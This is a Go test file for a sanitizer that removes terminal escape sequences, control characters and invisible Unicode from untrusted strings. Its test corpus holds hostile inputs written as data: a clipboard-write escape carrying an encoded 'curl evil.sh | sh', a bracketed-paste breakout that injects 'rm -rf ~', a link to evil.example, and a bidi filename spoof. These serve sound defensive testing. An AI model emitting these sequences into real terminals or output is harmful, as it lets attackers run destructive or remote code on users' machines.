package sanitize

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile is a corpus of things servers have been known (or could be made) to
// put into a string field, each with what Line should show.
var hostile = []struct {
	name, in, line string
}{
	{"clean", "job 42 ERRORED", "job 42 ERRORED"},
	{"osc0 title bel", "a\x1b]0;pwned\x07b", "ab"},
	{"osc2 title st", "a\x1b]2;pwned\x1b\\b", "ab"},
	{"osc52 clipboard", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", "xy"},
	{"osc8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
	{"csi clear", "\x1b[2J\x1b[Hhello", "hello"},
	{"csi cursor moves", "ok\x1b[1A\x1b[2K\x1b[10;5Hfake", "okfake"},
	{"csi sgr", "\x1b[31;1mred\x1b[0m", "red"},
	{"csi private", "\x1b[?1049h\x1b[?25lx", "x"},
	{"bracketed paste end", "data\x1b[201~rm -rf ~\n", "datarm -rf ~⏎"},
	{"dcs", "a\x1bPq#0;2;0;0;0#0~~@@\x1b\\b", "ab"},
	{"sos pm apc", "a\x1bXsos\x1b\\b\x1b^pm\x1b\\c\x1b_apc\x1b\\d", "abcd"},
	{"two byte esc", "a\x1b7b\x1bcc\x1b(Bd\x1bMe", "abcde"},
	{"esc at end", "abc\x1b", "abc"},
	{"esc then utf8", "a\x1bé", "aé"},
	{"unterminated osc", "a\x1b]0;title and the rest", "a"},
	{"unterminated csi", "a\x1b[12;3", "a"},
	{"osc cut by esc", "a\x1b]0;t\x1b[31mb", "ab"},
	{"osc can abort", "a\x1b]0;t\x18b", "ab"},
	{"c1 csi 8bit", "a\u009b2Jb", "ab"},
	{"c1 osc 8bit", "a\u009d0;t\u009cb", "ab"},
	{"c1 osc bel", "a\u009d52;c;AAAA\x07b", "ab"},
	{"c1 dcs", "a\u0090q\u009cb", "ab"},
	{"c1 single", "a\u0084b\u0085c", "ab⏎c"},
	{"raw 0x9b byte", "a\x9b2Jb", "a\uFFFD2Jb"},
	{"invalid utf8 run", "a\xff\xfe\xfdb", "a\uFFFDb"},
	{"truncated utf8", "a\xe2\x82", "a\uFFFD"},
	{"c0 and del", "a\x00b\x07c\x08d\x7fe\x1af", "abcdef"},
	{"tab", "a\tb", "a b"},
	{"newlines", "a\nb\r\nc\rd", "a⏎b⏎c⏎d"},
	{"unicode separators", "a\u2028b\u2029c", "a⏎b⏎c"},
	{"bidi override", "invoice\u202Egnp.exe", "invoicegnp.exe"},
	{"bidi isolates", "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c", "abc"},
	{"zero width", "pa\u200bss\u200c\u200dw\u2060o\ufeffrd", "password"},
	{"tags", "hi\U000E0041\U000E007F", "hi"},
	{"cjk and emoji kept", "日本語 😀 café", "日本語 😀 café"},
}

func TestLineCorpus(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			got := Line(tc.in)
			if got != tc.line {
				t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.line)
			}
			checkSafe(t, got, false)
			checkSafe(t, Text(tc.in), true)
		})
	}
}

func TestText(t *testing.T) {
	cases := []struct{ in, want string }{
		{"a\nb", "a\nb"},
		{"a\r\nb\rc", "a\nb\nc"},
		{"a\tb", "a\tb"},
		{"a\u2028b", "a\nb"},
		{"x\x1b[2Jy\n\x1b]0;t\x07z", "xy\nz"},
	}
	for _, tc := range cases {
		if got := Text(tc.in); got != tc.want {
			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCleanReturnsSameString(t *testing.T) {
	s := strings.Repeat("clean text, 日本語 ok; ", 10)
	if got := Line(s); got != s {
		t.Fatal("clean string changed")
	}
	multi := s + "\n\t"
	allocs := testing.AllocsPerRun(100, func() { _ = Line(s); _ = Text(multi) })
	if allocs != 0 {
		t.Fatalf("clean input allocated %v times", allocs)
	}
}

func TestHugeLine(t *testing.T) {
	var b strings.Builder
	for b.Len() < 1<<20 {
		b.WriteString("row \x1b[31mred\x1b[0m \u202e\u200b\xff ok\n")
	}
	in := b.String()
	out := Line(in)
	checkSafe(t, out, false)
	if !strings.Contains(out, "row red") {
		t.Fatalf("content lost: %q", out[:80])
	}
	// An unterminated OSC in a 1 MB string removes the rest, in linear time.
	out = Line("keep\x1b]0;" + strings.Repeat("payload ", 1<<17))
	if out != "keep" {
		t.Fatalf("unterminated OSC: got %d bytes", len(out))
	}
}

func TestIdempotent(t *testing.T) {
	for _, tc := range hostile {
		once := Line(tc.in)
		if twice := Line(once); twice != once {
			t.Errorf("%s: Line not idempotent: %q -> %q", tc.name, once, twice)
		}
	}
}

// checkSafe asserts the guarantees of the package documentation.
func checkSafe(t testing.TB, s string, multiline bool) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("invalid UTF-8 in %q", s)
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == 0x7f || (c < 0x20 && !(multiline && (c == '\n' || c == '\t'))) {
			t.Fatalf("control byte %#x at %d in %q", c, i, s)
		}
	}
	for _, r := range s {
		if (r >= 0x80 && r <= 0x9f) || dropRune(r) || isBreak(r) {
			t.Fatalf("forbidden rune %U in %q", r, s)
		}
	}
}

func FuzzLine(f *testing.F) {
	for _, tc := range hostile {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		line, text := Line(s), Text(s)
		checkSafe(t, line, false)
		checkSafe(t, text, true)
		if Line(line) != line || Text(text) != text {
			t.Fatalf("not idempotent for %q", s)
		}
		if strings.ContainsAny(line, "\n\t") {
			t.Fatalf("Line kept a newline or tab: %q", line)
		}
	})
}

func benchInputs() map[string]string {
	clean := strings.Repeat("ERRORED job 1234: connection reset by peer; ", 24)[:1024]
	var dirty strings.Builder
	for dirty.Len() < 1024 {
		dirty.WriteString("err \x1b[31mred\x1b[0m \u202eevil\u200b\n")
	}
	return map[string]string{"clean1KB": clean, "dirty1KB": dirty.String()}
}

func BenchmarkLine(b *testing.B) {
	for name, in := range benchInputs() {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			b.ReportAllocs()
			for b.Loop() {
				_ = Line(in)
			}
		})
	}
}

func ExampleLine() {
	fmt.Printf("%q\n", Line("build \x1b[31mfailed\x1b[0m\x1b]0;owned\x07:\nexit 1\u202e"))
	// Output: "build failed:⏎exit 1"
}

func TestUnsafe(t *testing.T) {
	for _, r := range []rune{0, '\n', '\t', 0x1b, 0x7f, 0x85, 0x9b, 0x202e, 0x200b, 0xfeff, 0xe0041, 0x2028} {
		if !Unsafe(r) {
			t.Errorf("Unsafe(%U) = false", r)
		}
	}
	for _, r := range []rune{' ', 'a', 'é', '日', 0x1f600, 0xfffd, 0x23ce} {
		if Unsafe(r) {
			t.Errorf("Unsafe(%U) = true", r)
		}
	}
}
